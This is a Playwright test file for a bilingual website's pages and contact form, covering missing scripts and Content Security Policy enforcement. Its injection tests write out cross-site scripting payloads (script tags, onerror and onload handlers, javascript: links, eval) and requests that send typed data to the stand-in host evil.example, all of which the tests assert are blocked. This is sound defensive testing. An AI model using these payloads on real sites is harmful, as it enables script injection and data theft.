import type { Page, Route } from '@playwright/test';
import { phoneHref } from '@/facts/phone';
import { localePath } from '@/routing/addresses';
import { pagePaths } from '@/routing/pages';
import { pageName, wordsFor } from '@/words/words';
import { expect, fillIn, holdBack, started, test } from '../site';

const { contact, fees, services } = wordsFor('en').pages;
const { form } = contact;

// The browser reports each of these faults on the console, where nothing else may stand.
const expected =
  /^Failed to load resource|violates the following|Content Security Policy|Failed to fetch dynamically/;

test.afterEach(({ trouble }) => {
  trouble.console = trouble.console.filter((line) => !expected.test(line));
});

const title = (page: Page) => page.getByRole('heading', { level: 1 });
const inHeader = (page: Page, name: string) =>
  page.getByRole('banner').getByRole('link', { name, exact: true }).filter({ visible: true });
/** Reads, calls, moves on: what a visitor can do on any page, with its scripts or without. */
async function expectUsable(page: Page, heading: string) {
  await expect(title(page)).toHaveText(heading);
  await expect(
    page.locator(`a[href="${phoneHref}"]`).filter({ visible: true }).first(),
  ).toBeEnabled();
  await expect(page.getByText('Unexpected Application Error!')).toHaveCount(0);
  await inHeader(page, pageName('fees', 'en')).click();
  await expect(page).toHaveURL(pagePaths.fees);
  await expect(title(page)).toHaveText(fees.header.title);
}

const anyScript = /\.js$/;
/** What islands need, and no page by itself. */
const react = /\/react-[^/]*\.js$/;
const missing = (route: Route) => route.fulfill({ status: 404, body: 'Not found' });

test.describe('when a script file is missing', () => {
  test.use({ viewport: { width: 390, height: 844 } });

  for (const [which, files] of [
    ['all', anyScript],
    ['React', react],
  ] as const) {
    test(`(${which}) the page is read, the menu opens and its links lead on`, async ({ page }) => {
      await page.route(files, missing);
      await page.goto(pagePaths.fees, { waitUntil: 'networkidle' });
      await expect(title(page)).toHaveText(fees.header.title);
      await page.getByRole('banner').locator('summary').click();
      await inHeader(page, pageName('couples-marriage', 'en')).click();
      await expect(page).toHaveURL(pagePaths['couples-marriage']);
    });
  }

  for (const [locale, which, files] of [
    ['en', 'any script', anyScript],
    ['fr', 'React', react],
  ] as const) {
    test(`(${which}) the form in ${locale} gives nothing away, and says whom to call`, async ({
      page,
    }) => {
      const words = wordsFor(locale).pages.contact;
      await page.route(files, missing);
      const path = localePath(pagePaths.contact, locale);
      await page.goto(path);
      await fillIn(page);
      await expect(page.getByRole('button', { name: words.form.submit })).toBeDisabled();
      await page.getByLabel(words.form.email.label).press('Enter');
      await expect(page).toHaveURL(path);
      if (files === anyScript) {
        const hint = page.getByText(words.form.late);
        // CSS shows it after eight seconds, which the test does not wait for.
        await hint.evaluate((element) => {
          for (const animation of element.getAnimations()) animation.finish();
        });
        await expect(hint).toBeVisible();
      } else {
        const alert = page.getByRole('alert').first();
        await expect(alert).toContainText(wordsFor(locale).error.phone);
      }
    });
  }
});

test('the hint below the form goes when its script arrives, and nothing moves', async ({
  page,
}) => {
  await page.emulateMedia({ reducedMotion: 'reduce' });
  const release = await holdBack(page, anyScript);
  await page.goto(pagePaths.contact, { waitUntil: 'commit' });
  await expect(page.getByText(form.late)).toBeHidden();
  await expect(page.getByText(form.late)).toBeVisible({ timeout: 15_000 });
  const before = await page.locator('form').boundingBox();
  release();
  await started(page);
  await expect(page.getByText(form.late)).toBeHidden();
  expect(await page.locator('form').boundingBox()).toEqual(before);
});

test.describe('what is injected', () => {
  test.use({ sharesPage: true });

  test.afterEach(({ trouble }) => {
    trouble.console = trouble.console.filter((line) => !/Trusted\w+' assignment/.test(line));
  });

  const evil = 'window.evil = (window.evil ?? 0) + 1';

  /** Requests to other hosts that left the browser: the policy has to stop every one before. */
  async function expectNothingLeft(page: Page, trouble: { hosts: string[] }, stopped: string[]) {
    expect(await page.evaluate(() => 'evil' in window)).toBe(false);
    await expect.poll(() => stopped).toEqual(trouble.hosts);
    trouble.hosts = [];
  }

  function stoppedBy(page: Page) {
    const stopped: string[] = [];
    page.on('requestfailed', (request) => {
      if (request.failure()?.errorText === 'csp') stopped.push(new URL(request.url()).origin);
    });
    return stopped;
  }

  test('into the page as it is served does not run', async ({ page, trouble }) => {
    const stopped = stoppedBy(page);
    const injected = `<script>${evil}</script><script type="module">${evil}</script>
      <script src="https://evil.example/evil.js"></script><script src="data:text/javascript,${evil}"></script>
      <img src="/none.png" onerror="${evil}"><svg onload="${evil}"></svg>
      <iframe srcdoc="<script>parent.evil = 1</script>"></iframe><base href="https://evil.example/">
      <link rel="stylesheet" href="https://evil.example/evil.css">`;
    await page.route('**/services', async (route) => {
      const response = await route.fetch();
      const body = (await response.text()).replace('</main>', `${injected}</main>`);
      await route.fulfill({ response, body });
    });
    await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
    await expectNothingLeft(page, trouble, stopped);
    await expectUsable(page, services.header.title);
  });

  test('as a form that is submitted sends nothing, not to this host either', async ({ page }) => {
    await page.goto(pagePaths.contact, { waitUntil: 'networkidle' });
    await started(page);
    const told = page.waitForEvent('console', (message) => /form-action/.test(message.text()));
    await page.evaluate(() => {
      const form = document.createElement('form');
      form.action = '/contact';
      document.body.append(form);
      form.submit();
    });
    await told;
    // Read in the page: Playwright's own checks would wait for the navigation that the policy stopped.
    expect(await page.evaluate(() => document.querySelector('h1')?.textContent)).toBe(
      contact.header.title,
    );
  });

  test('while it is open does not run, and the page goes on working', async ({ page, trouble }) => {
    const stopped = stoppedBy(page);
    await page.goto(pagePaths.services, { waitUntil: 'networkidle' });
    await started(page);
    const refused = await page.evaluate(async (evil) => {
      // In a timer, since the policy does not apply to what a debugger evaluates.
      await new Promise((resolve) => setTimeout(resolve));
      const refuses = (act: () => unknown) => {
        try {
          act();
          return false;
        } catch (error) {
          return error instanceof TypeError || error instanceof EvalError;
        }
      };
      const add = (name: string, attribute: string, value: string, text = '') => {
        const element = document.createElement(name);
        element.setAttribute(attribute, value);
        element.append(text);
        document.body.append(element);
        return element;
      };
      add('script', 'type', 'text/javascript', evil);
      add('a', 'href', `javascript:${evil}`).click();
      add('iframe', 'src', 'https://evil.example/');
      add('img', 'src', 'https://evil.example/?what=was+typed');
      fetch('https://evil.example/', { method: 'POST', body: 'typed' }).catch(() => undefined);
      return [
        () => document.body.insertAdjacentHTML('beforeend', `<img src="/x" onerror="${evil}">`),
        () => {
          document.createElement('div').innerHTML = `<svg onload="${evil}">`;
        },
        () => document.write(`<script>${evil}</script>`),
        () => {
          document.createElement('script').src = 'https://evil.example/evil.js';
        },
        // biome-ignore lint/security/noGlobalEval: it is what must not work.
        () => window.eval(evil),
        () => new Function(evil)(),
        () => window.setTimeout(evil, 0),
        () => document.body.setAttribute('onclick', evil),
      ].map(refuses);
    }, evil);
    expect(refused).toEqual(refused.map(() => true));
    await page.waitForLoadState('networkidle');
    await expectNothingLeft(page, trouble, stopped);
    await expectUsable(page, services.header.title);
  });
});

test.describe('a hostile address', () => {
  test.use({ sharesPage: true });

  // Others are tried in missing-page.test.tsx.
  const paths = [`/${encodeURIComponent('<img src=x onerror=window.evil=1>')}`, '//evil.example'];

  for (const path of paths) {
    test(`${path.slice(0, 50)} becomes no markup and leads nowhere else`, async ({
      page,
      baseURL,
      trouble,
    }) => {
      // Real hosts keep two slashes; the tests' server would redirect to one, so the test answers itself.
      await page.route(`${baseURL}/**`, async (route) => {
        if (!route.request().isNavigationRequest() || route.request().url() === `${baseURL}/`)
          return route.continue();
        const response = await route.fetch({ url: `${baseURL}/no-such-page` });
        return route.fulfill({ response });
      });
      await page.goto(`${baseURL}${path}`);
      await started(page);
      await expect(title(page)).toHaveText('404');
      const address = page.url();

      expect(await page.evaluate(() => 'evil' in window)).toBe(false);
      await expect(
        page.locator('main').locator('img, iframe, script, [onload], [onerror]'),
      ).toHaveCount(0);
      expect(await page.locator('main').textContent()).not.toMatch(/evil|\u202e|<|onload/);

      const elsewhere = await page.evaluate(() =>
        [...document.querySelectorAll('a')]
          .filter(({ protocol, origin }) => /^http/.test(protocol) && origin !== location.origin)
          .map((link) => link.getAttribute('href')),
      );
      expect(elsewhere).toEqual([]);
      expect(page.url()).toBe(address);

      await expect(page.locator(`main a[href="${phoneHref}"]`).first()).toBeVisible();
      await page.getByRole('link', { name: wordsFor('en').notFound.action }).click();
      await expect(page).toHaveURL('/');
      trouble.console = trouble.console.filter((line) => !/404/.test(line));
    });
  }
});
